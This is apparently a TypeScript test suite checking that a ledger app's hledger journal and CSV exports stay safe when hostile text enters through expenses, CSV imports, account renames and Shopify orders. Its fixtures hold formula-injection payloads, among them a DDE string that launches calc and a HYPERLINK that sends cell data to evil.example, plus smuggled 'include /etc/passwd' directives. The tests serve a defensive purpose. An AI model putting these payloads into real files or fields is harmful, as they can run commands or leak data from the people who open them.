// Hostile text in the books, entered the way staff and Shopify enter it (the expense API, a CSV of
// expenses, renamed accounts, an order from Shopify), then exported: the hledger journal passes
// `hledger check --strict`, hledger's figures are exactly the books', the text shows up escaped
// inside its own field and never as a directive or a posting; every CSV (the books and each report)
// reads back cell for cell as written, and no cell starts as a spreadsheet formula.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { loginAs, startTestServer, type LoggedIn, type TestServer } from '../support/server.ts';
import { rememberShop, sampleOrder, samplePayment, storeOrders } from '../support/shop.ts';
import { ledgerOf, shopEventsOf } from '../support/ledger.ts';
import { parseCsv } from '../../src/platform/documents/csv-parser.ts';
import { REPORT_NAMES } from '../../src/modules/ledger/documents.ts';
import { dataCell } from '../../src/platform/documents/document.ts';

const run = promisify(execFile);
let server: TestServer;
let owner: LoggedIn;
const FROM = '2026-11-01';
const TO = '2026-11-30';

const SHOP_NAME = `=cmd|' /C calc'!A0 Beauty`;
const TAX_TITLE = 'VAT, date:2019-01-01';
const PRODUCT = '=HYPERLINK("http://evil.example/?d="&A1,"Argan")';
const RENAMED: Record<string, string> = {
  'Income:Sales': '\t=SUM(1+1) Sales, type: L',
  'Income:Shipping': '\r@SUM(1+1)\ninclude /etc/passwd',
  'Expenses:General': '-2+3 General\u2028include /etc/passwd',
  'Assets:Bank': 'Bank; account Assets:Evil',
  'Expenses:Postage': "'=already text",
};
// A code with two spaces, as the chart allowed before it refused them (see the first test).
const LEGACY_CODE = 'Expenses:Fair  Stands';

const api = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown, type?: string) =>
  server.app.inject({
    method,
    url,
    headers: {
      cookie: owner.cookie,
      'x-csrf-token': owner.csrf,
      ...(type ? { 'content-type': type } : {}),
    },
    ...(payload === undefined ? {} : { payload: payload as string }),
  });

async function ok(method: 'POST' | 'PUT', url: string, payload: unknown, type?: string) {
  const response = await api(method, url, payload, type);
  assert.ok(response.statusCode < 300, `${method} ${url}: ${response.statusCode} ${response.body}`);
}

before(async () => {
  server = await startTestServer();
  await rememberShop(server.db.pool, { name: SHOP_NAME, domain: 'x.myshopify.com' });
  owner = await loginAs(server, 'owner');

  // From Shopify: an order name with a directive, a product title and SKU that are formulas, a tax
  // title whose comma would start a tag moving the tax to 2019.
  const base = sampleOrder();
  const tax = (amount: number) => [
    { title: TAX_TITLE, rate: '0.2', amount: { shop: amount, presentment: amount } },
  ];
  await storeOrders(server.db.pool, {
    order: sampleOrder({
      name: '#1001\ninclude /etc/passwd',
      financialStatus: 'paid',
      taxLines: tax(566),
      lines: [{ ...base.lines[0]!, name: PRODUCT, sku: '-2+3', taxLines: tax(500) }],
      shippingLines: [{ ...base.shippingLines[0]!, taxLines: tax(66) }],
    }),
    transactions: [samplePayment()],
  });
  await ledgerOf(server).ledger.post(await shopEventsOf(server.db.pool)());

  for (const [code, name] of Object.entries(RENAMED))
    await ok('PUT', `/api/v1/ledger/accounts/${encodeURIComponent(code)}`, { name });
  await server.db.pool.query(
    `insert into ledger_accounts (code, name, type) values ($1, '-Fair stands', 'expense')`,
    [LEGACY_CODE],
  );

  // Staff: expenses through the API and a spreadsheet of them.
  const expenses = [
    {
      date: '2026-11-02',
      supplier: 'ACME, Ltd; "Wholesale"',
      description: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
      amount: '120.00',
      tax: '20.00',
      reference: 'INV-1\ninclude /etc/passwd',
    },
    {
      date: '2026-11-03',
      supplier: '@SUM(A1:A9)',
      description: 'fake posting\n    Assets:Bank  1000.00 GBP\n    Income:Sales  -1000.00 GBP',
      amount: '45.50',
      account: 'Expenses:Postage',
      reference: '-2+3',
    },
    {
      date: '2026-11-04',
      supplier: '+44 20 7946 0000',
      description: 'tab\there\u2028line\u2029para ; comment',
      amount: '9.99',
      paidFrom: 'Liabilities:Credit Card',
      reference: 'R-3, entry:1, date:2019-01-01',
    },
    {
      date: '2026-11-05',
      supplier: '(42) Market',
      description: 'stall',
      amount: '30.00',
      account: LEGACY_CODE,
    },
  ];
  for (const expense of expenses) await ok('POST', '/api/v1/ledger/expenses', expense);
  await ok(
    'POST',
    '/api/v1/ledger/expenses/import',
    'date,supplier,description,amount,reference\r\n' +
      '2026-11-06,"Boots\r\n2026-11-06 * fake\r\n    Assets:Bank  5.00 GBP","=1+1",15.00,"CSV-1\r\ninclude /etc/passwd"\r\n',
    'text/csv',
  );
});
after(() => server?.close());

test('a new account code with two spaces in a row is refused: hledger would end the name there', async () => {
  const response = await api('POST', '/api/v1/ledger/accounts', {
    code: 'Expenses:Market  Stall',
    name: 'Stall',
  });
  assert.equal(response.statusCode, 400, response.body);
  assert.match(response.json().error.message, /two spaces in a row.*"Expenses:Market {2}Stall"/);
  const { rowCount } = await server.db.pool.query(
    `select 1 from ledger_accounts where code like 'Expenses:Market%'`,
  );
  assert.equal(rowCount, 0);
});

/** Amount in minor units from an hledger CSV cell such as "1234.56 GBP" or "-0.50 GBP" (one commodity). */
function minor(cell: string): number {
  const match = /(-?)(\d+)(?:\.(\d+))?/.exec(cell.replace(/,/g, ''));
  if (!match) return 0;
  const [, sign, units, fraction = ''] = match;
  return (sign ? -1 : 1) * (Number(units) * 100 + Number(fraction.padEnd(2, '0').slice(0, 2)));
}

test('the journal: hledger --strict accepts it, its figures are the books’, hostile text stays in its field', async () => {
  const response = await api('GET', `/api/v1/ledger/export?format=hledger&from=${FROM}&to=${TO}`);
  assert.equal(response.statusCode, 200);
  const journal = response.body;
  const dir = mkdtempSync(path.join(tmpdir(), 'sk-injection-'));
  try {
    const file = path.join(dir, 'books.journal');
    writeFileSync(file, journal);
    await run('hledger', ['-f', file, 'check', '--strict']);
    // Only the lines the exporter writes: a comment, a declaration, a transaction or a posting.
    for (const line of journal.split('\n'))
      assert.match(
        line,
        /^(|; .*|decimal-mark \.|commodity 1000\.00 GBP|account \S.*|2026-11-\d\d \* .*| {4}\S.*)$/,
        `a line the exporter did not write: ${JSON.stringify(line)}`,
      );
    assert.ok(!/^\s*include/m.test(journal));
    assert.ok(!/[\r\t\u2028\u2029]/.test(journal), 'no tab or line break of any kind inside a line');
    assert.match(journal, /^account Income:Sales {2}; type:R, name:=SUM\(1\+1\) Sales， type: L$/m);
    assert.match(journal, /^account Income:Shipping {2}; type:R, name:@SUM\(1\+1\) include \/etc\/passwd$/m);
    assert.match(journal, /^account Assets:Bank {2}; type:A, name:Bank; account Assets:Evil$/m);
    assert.match(journal, /^account Expenses:Fair Stands {2}; type:X, name:-Fair stands$/m);

    const hledger = async (...args: string[]) => (await run('hledger', ['-f', file, ...args])).stdout;

    // Every entry is one transaction with its own postings: nothing added, nothing split.
    const printed = JSON.parse(await hledger('print', '-O', 'json')) as {
      tdescription: string;
      tcode: string;
      ttags: [string, string][];
      tpostings: { paccount: string; pdate: string | null; ptags: [string, string][] }[];
    }[];
    const { rows: entries } = await server.db.pool.query<{ id: string; postings: number }>(
      `select e.id, count(p.id)::int as postings from ledger_entries e join ledger_postings p on p.entry_id = e.id
       where e.entry_date between $1 and $2 group by e.id order by e.entry_date, e.id`,
      [FROM, TO],
    );
    assert.deepEqual(
      printed.map((t) => [t.ttags.find(([name]) => name === 'entry')?.[1], t.tpostings.length]),
      entries.map((e) => [e.id, e.postings]),
    );
    for (const t of printed) {
      assert.equal(t.tcode, '', t.tdescription);
      assert.deepEqual(
        t.ttags.map(([name]) => name),
        ['source', 'entry'],
        `only the exporter's tags: ${JSON.stringify(t.ttags)}`,
      );
      for (const p of t.tpostings)
        assert.equal(p.pdate, null, `a posting of ${t.tdescription} moved to ${p.pdate}`);
    }
    const described = new Map(printed.map((t) => [t.tdescription, t.ttags[0]![1]]));
    const expected: [string, string][] = [
      ['Shopify order #1001 include /etc/passwd', `order:${5_550_000_000_001}`],
      [
        'ACME, Ltd； "Wholesale": =HYPERLINK("http://evil.example/?d="&A1,"click")',
        'manual:INV-1 include /etc/passwd',
      ],
      [
        '@SUM(A1:A9): fake posting     Assets:Bank  1000.00 GBP     Income:Sales  -1000.00 GBP',
        'manual:-2+3',
      ],
      ['+44 20 7946 0000: tab here line para ； comment', 'manual:R-3， entry:1， date:2019-01-01'],
      ['（42) Market: stall', 'manual'],
      ['Boots 2026-11-06 * fake     Assets:Bank  5.00 GBP: =1+1', 'manual:CSV-1 include /etc/passwd'],
    ];
    for (const [description, source] of expected)
      assert.equal(
        described.get(description),
        source,
        `${description} in ${[...described.keys()].join(' | ')}`,
      );
    const taxTags = printed
      .flatMap((t) => t.tpostings)
      .flatMap((p) => p.ptags.filter(([name]) => name === 'jurisdiction').map(([, value]) => value));
    assert.deepEqual([...new Set(taxTags)], ['GB VAT， date:2019-01-01']);

    // hledger's figures are the books': every account's balance and the profit.
    const trial = (await api('GET', `/api/v1/ledger/reports/trial-balance?from=${FROM}&to=${TO}`)).json() as {
      lines: { account: string; debit: number; credit: number }[];
    };
    const balances = (await hledger('balance', '-O', 'csv', '--layout=bare', '--no-total', '-E'))
      .split('\n')
      .slice(1)
      .filter(Boolean)
      .map((line) => line.split(',').map((cell) => cell.replace(/^"|"$/g, '')));
    const theirs = new Map(balances.map(([account, , amount]) => [account!, minor(amount ?? '0')]));
    assert.ok(trial.lines.some((line) => line.account === LEGACY_CODE));
    for (const line of trial.lines) {
      const name = line.account === LEGACY_CODE ? 'Expenses:Fair Stands' : line.account;
      assert.equal(theirs.get(name) ?? 0, line.debit - line.credit, line.account);
    }
    // and no account of hledger's that the books do not have (a posting smuggled in by text).
    const ours = new Set(
      trial.lines.map((line) => (line.account === LEGACY_CODE ? 'Expenses:Fair Stands' : line.account)),
    );
    for (const account of theirs.keys()) assert.ok(ours.has(account), `hledger has ${account}`);
    const pnl = (await api('GET', `/api/v1/ledger/reports/pnl?from=${FROM}&to=${TO}`)).json() as {
      net: number;
    };
    assert.ok(pnl.net < 0, 'the expenses exceed the sale, so the net is a negative number in the CSVs too');
    const income = await hledger('incomestatement', '-O', 'csv');
    const netRow = income.split('\n').find((line) => /^"?Net:?"?,/.test(line));
    assert.ok(netRow, income);
    assert.equal(minor(netRow.split(',').pop()!), pnl.net, netRow);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/** A cell as it was meant: without the apostrophe that keeps text a spreadsheet would run as text. */
const unguarded = (cell: string) =>
  cell.startsWith("'") && /^'*(?:[\t\r]|\s*[=+\-@])/.test(cell.slice(1)) ? cell.slice(1) : cell;

/** A cell a spreadsheet would run as a formula (a negative number is a number, not a formula). */
const runs = (cell: string) =>
  /^\s*[=+@\t\r]/.test(cell) || (/^\s*-/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));

test('the CSV of the books: every cell reads back as written, none starts as a formula', async () => {
  const response = await api('GET', `/api/v1/ledger/export?format=csv&from=${FROM}&to=${TO}`);
  assert.equal(response.statusCode, 200);
  const [header, ...rows] = parseCsv(response.body);
  assert.deepEqual(header!.fields, [
    'date',
    'entry',
    'description',
    'source_type',
    'source_id',
    'account',
    'debit',
    'credit',
    'currency',
    'jurisdiction',
  ]);
  const { rows: postings } = await server.db.pool.query<Record<string, string | null>>(
    `select to_char(e.entry_date, 'YYYY-MM-DD') as date, e.id::text as entry, e.description, e.source_type,
       coalesce(e.source_id, '') as source_id, p.account_code as account,
       case when p.amount_minor > 0 then to_char(p.amount_minor / 100.0, 'FM999999990.00') else '' end as debit,
       case when p.amount_minor < 0 then to_char(-p.amount_minor / 100.0, 'FM999999990.00') else '' end as credit,
       p.currency, coalesce(p.jurisdiction, '') as jurisdiction
     from ledger_postings p join ledger_entries e on e.id = p.entry_id
     where e.entry_date between $1 and $2 order by e.entry_date, e.id, p.id`,
    [FROM, TO],
  );
  assert.equal(rows.length, postings.length);
  rows.forEach((row, index) => {
    assert.deepEqual(row.fields.map(unguarded), Object.values(postings[index]!), `line ${row.line}`);
    for (const cell of row.fields) assert.ok(!runs(cell), `line ${row.line}: ${JSON.stringify(cell)} runs`);
  });
  const sources = rows.map((row) => unguarded(row.fields[4]!));
  assert.ok(sources.includes('INV-1\ninclude /etc/passwd') && sources.includes('-2+3'));
});

test('every report as CSV: each cell is the report’s own text or number, none starts as a formula', async () => {
  for (const name of REPORT_NAMES) {
    const response = await api(
      'GET',
      `/api/v1/ledger/reports/${name}/download?from=${FROM}&to=${TO}&format=csv`,
    );
    assert.equal(response.statusCode, 200, name);
    const document = await ledgerOf(server).ledger.reportDocument(name, FROM, TO);
    const expected = [
      [document.title],
      [document.subtitle],
      ...document.sections.flatMap((section) => [
        ...(section.heading ? [[section.heading]] : []),
        section.columns.map((column) => column.label),
        ...section.rows.map((row) =>
          row.cells.map((cell) =>
            cell === null ? '' : typeof cell === 'string' ? cell : dataCell(cell, 'GBP'),
          ),
        ),
      ]),
    ];
    const read = parseCsv(response.body);
    for (const row of read)
      for (const cell of row.fields)
        assert.ok(!runs(cell), `${name} line ${row.line}: ${JSON.stringify(cell)} runs`);
    assert.deepEqual(
      read.map((row) => row.fields.map(unguarded)),
      expected,
      name,
    );
  }
  const cells = async (name: string) =>
    parseCsv(
      (await api('GET', `/api/v1/ledger/reports/${name}/download?from=${FROM}&to=${TO}&format=csv`)).body,
    )
      .flatMap((row) => row.fields)
      .map(unguarded);
  const pnl = await cells('pnl');
  for (const text of [RENAMED['Income:Sales'], RENAMED['Income:Shipping'], RENAMED['Expenses:General']])
    assert.ok(pnl.includes(text!), `${JSON.stringify(text)} in the P&L`);
  assert.ok(
    pnl.some((cell) => /^-\d+\.\d\d$/.test(cell)),
    'the negative net stays a number',
  );
  assert.ok((await cells('trial-balance')).includes(RENAMED['Assets:Bank']!));
  assert.ok((await cells('sales-tax')).includes(`United Kingdom: ${TAX_TITLE}`));
  assert.ok((await cells('margins')).includes(PRODUCT));
  assert.ok((await cells('balance-sheet'))[1]!.startsWith(SHOP_NAME));
});
